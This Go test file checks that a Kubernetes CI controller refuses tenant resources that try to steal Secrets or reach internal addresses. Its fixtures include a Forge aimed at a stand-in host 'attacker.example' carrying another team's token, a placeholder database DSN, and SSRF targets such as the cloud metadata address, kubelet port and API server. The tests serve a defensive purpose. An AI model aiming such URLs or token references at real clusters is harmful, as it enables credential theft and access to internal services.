package controller

// The attacker's side: a namespace user's RunnerGroups and Forges aimed
// at what they must not reach.

import (
	"context"
	"errors"
	"fmt"
	"net/netip"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"

	"github.com/runway-cpi/runway/src/testkit/kubeyaml"
)

const stolenDSN = "postgres://runway:pg-password-5e1f@db:5432/runway"

// The attacker writes RunnerGroups and Forges in their namespace, naming
// other Secrets of it: the store's DSN (runway-postgres, as the chart's
// default names it) and another team's token. The controller reads
// neither: each object is refused on its status, naming the field and
// the Secret, its forge is never asked anything (so never sent the
// value), and no Secret request it makes goes beyond its Role (the
// Secrets named in secrets.names, each by a field selector naming it).
// The seed's own example, whose Secrets the operator allow-listed, works.
func TestNoConfusedDeputy(t *testing.T) {
	for _, byLabel := range []bool{false, true} {
		t.Run(fmt.Sprint("byLabel=", byLabel), func(t *testing.T) {
			teamB := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "team-b", Namespace: "team-a"},
				Data: map[string][]byte{"token": []byte("team-b-token-0123456789")}}
			labelled := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "marked", Namespace: "team-a", Labels: map[string]string{SecretLabel: "true"}},
				Data: map[string][]byte{"token": []byte("marked-token-0123456789")}}
			pg := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "runway-postgres", Namespace: "team-a"},
				Data: map[string][]byte{"dsn": []byte(stolenDSN)}}
			f := newFakeCluster(t, SecretAccess{Names: []string{"gitea-auth-token", "gitea-registration-token"}, ByLabel: byLabel},
				[]runtime.Object{teamB, labelled, pg}...)
			eng := &fakeEngine{states: map[string]GroupState{}}
			f.start(t, eng)
			for _, u := range kubeyaml.Read(t, "testdata/seed-001-runnergroup.yaml") {
				f.create(t, u)
			}
			for _, u := range append(kubeyaml.Read(t, "testdata/hostile-steal-dsn.yaml"), kubeyaml.Parse(t, []byte(`
apiVersion: runway.io/v1alpha1
kind: Forge
metadata: {name: steal-team-b}
spec: {type: gitea, url: "http://attacker.example:3000", token: {name: team-b, key: token}}
---
apiVersion: runway.io/v1alpha1
kind: Forge
metadata: {name: marked}
spec: {type: gitea, url: "http://gitea.example:3000", token: {name: marked, key: token}}
`))...) {
				f.create(t, u)
			}
			waitFor(t, 10*time.Second, "the seed's example handed to the engine", func() bool {
				_, fc, ok := eng.group(engineName(kindSeed, f.ns, "acme-linux"))
				return ok && fc.Secrets.Token() == "seed-api-token-0123456789abcdef"
			})
			for _, c := range []struct {
				kind, name, field, secret string
			}{{kindSeed, "steal-dsn", "spec.authToken", "runway-postgres"}, {kindForge, "steal-team-b", "spec.token", "team-b"}} {
				waitFor(t, 10*time.Second, c.name+" refused: "+ReasonSecretNotAllowed, func() bool {
					return f.ready(gvrs[c.kind], c.name).Reason == ReasonSecretNotAllowed
				})
				msg := f.ready(gvrs[c.kind], c.name).Message
				if !strings.Contains(msg, c.field) || !strings.Contains(msg, c.secret) || strings.Contains(msg, "pg-password") {
					t.Errorf("%s: condition %q: want the field %s and Secret %s named, and no value", c.name, msg, c.field, c.secret)
				}
			}
			// A Secret the namespace's owner labelled is read with byLabel only.
			want := ReasonSecretNotAllowed
			if byLabel {
				want = ReasonReady
			}
			waitFor(t, 10*time.Second, "the labelled Secret's Forge: "+want, func() bool { return f.ready(gvrs[kindForge], "marked").Reason == want })

			eng.mu.Lock()
			for _, fc := range eng.checked {
				if strings.Contains(fc.URL, "attacker") {
					t.Errorf("the forge %s was asked, with token %q", fc.URL, fc.Secrets.Token())
				}
			}
			for _, fc := range eng.forges {
				if strings.Contains(fc.URL, "attacker") {
					t.Errorf("the engine was handed forge %s", fc.URL)
				}
			}
			eng.mu.Unlock()
			for _, r := range f.secretRequests() {
				if strings.Contains(r, "runway-postgres") || strings.Contains(r, "team-b") {
					t.Errorf("a Secret request named %q", r)
				}
				if verb, sel, _ := strings.Cut(r, " "); !byLabel && verb != "get" && !strings.HasPrefix(sel, "metadata.name=") {
					t.Errorf("%q: a Secret request not by name", r)
				}
				if byLabel && (strings.HasPrefix(r, "list") || strings.HasPrefix(r, "watch")) && !strings.Contains(r, "metadata.name=") &&
					!strings.Contains(r, SecretLabel+"=true") {
					t.Errorf("%q: a Secret list or watch neither by name nor by label", r)
				}
			}
		})
	}
}

// The attacker aims their resources' forge URLs inside the cluster: at
// the API server (by its address and by a name resolving to it), the
// kubelet on the controller's node, a cloud's metadata address, the
// controller's own pod (loopback). Each is refused on its status
// (ForgeAddressRefused, naming the field, the host and what it is),
// and the forge is never asked anything, so never sent the token. The
// operator's allow list lets one through; a forge elsewhere is taken.
func TestForgeURLsInsideTheClusterAreRefused(t *testing.T) {
	api, node := netip.MustParseAddr("10.96.0.1"), netip.MustParseAddr("10.99.0.2")
	pol := func(allow ...netip.Prefix) *AddressPolicy {
		return &AddressPolicy{Deny: append([]Denied{{netip.PrefixFrom(api, 32), "the cluster's API server"},
			{netip.PrefixFrom(node, 32), "this controller's node (its kubelet)"}}, AlwaysDenied...), Allow: allow,
			Resolve: func(_ context.Context, host string) ([]netip.Addr, error) {
				switch host {
				case "kubernetes.default.svc":
					return []netip.Addr{api}, nil
				case "gitea.example":
					return []netip.Addr{netip.MustParseAddr("192.0.2.10")}, nil
				}
				return nil, errors.New("no such host")
			}}
	}
	hostile := []struct{ name, url, what string }{
		{"api", "https://10.96.0.1:443", "the cluster's API server"},
		{"api-by-name", "https://kubernetes.default.svc", "the cluster's API server"},
		{"kubelet", "https://10.99.0.2:10250", "its kubelet"},
		{"metadata", "http://169.254.169.254", "link-local"},
		{"self", "http://127.0.0.1:8480", "loopback"},
		{"self6", "http://[::1]:8480", "loopback"},
		{"mapped", "http://[::ffff:169.254.169.254]", "link-local"},
	}
	for _, allowNode := range []bool{false, true} {
		t.Run(fmt.Sprint("allowNode=", allowNode), func(t *testing.T) {
			f := newFakeCluster(t, SecretAccess{Names: []string{"tok"}})
			var allow []netip.Prefix
			if allowNode {
				allow = append(allow, netip.MustParsePrefix("10.99.0.0/24"))
			}
			eng := &fakeEngine{states: map[string]GroupState{}}
			f.startWith(t, eng, func(o *Options) { o.Addresses = pol(allow...) })
			doc := "apiVersion: v1\nkind: Secret\nmetadata: {name: tok}\nstringData: {token: forge-token-0123456789}\n"
			for _, h := range append(hostile, struct{ name, url, what string }{"fine", "http://gitea.example:3000", ""}) {
				doc += fmt.Sprintf("---\napiVersion: runway.io/v1alpha1\nkind: Forge\nmetadata: {name: %s}\nspec: {type: gitea, url: %q, token: {name: tok, key: token}}\n", h.name, h.url)
			}
			doc += `---
apiVersion: gitea.bpg.pw/v1alpha1
kind: RunnerGroup
metadata: {name: seed-api}
spec: {scope: org, org: acme, gitea: {url: "https://10.96.0.1"}, maxActiveRunners: 1, labels: [linux],
  registrationToken: {name: tok, key: token}, authToken: {name: tok, key: token}}
`
			for _, u := range kubeyaml.Parse(t, []byte(doc)) {
				f.create(t, u)
			}
			waitFor(t, 10*time.Second, "the forge elsewhere Ready", func() bool { return f.ready(gvrs[kindForge], "fine").Reason == ReasonReady })
			for _, h := range hostile {
				want := ReasonForgeAddressRefused
				if allowNode && h.name == "kubelet" {
					want = ReasonReady
				}
				waitFor(t, 10*time.Second, h.name+": "+want, func() bool { return f.ready(gvrs[kindForge], h.name).Reason == want })
				if msg := f.ready(gvrs[kindForge], h.name).Message; want != ReasonReady && (!strings.Contains(msg, "spec.url") || !strings.Contains(msg, h.what)) {
					t.Errorf("%s: %q, want spec.url and %q named", h.name, msg, h.what)
				}
			}
			waitFor(t, 10*time.Second, "the seed group refused", func() bool {
				c := f.ready(gvrs[kindSeed], "seed-api")
				return c.Reason == ReasonForgeAddressRefused && strings.Contains(c.Message, "spec.gitea.url")
			})
			eng.mu.Lock()
			defer eng.mu.Unlock()
			for _, fc := range eng.checked {
				if fc.URL != "http://gitea.example:3000" && !(allowNode && strings.Contains(fc.URL, "10.99.0.2")) {
					t.Errorf("the forge %s was asked", fc.URL)
				}
				if fc.Guard == nil {
					t.Errorf("the forge %s was handed over without the guard on its connections", fc.URL)
				}
			}
		})
	}
}
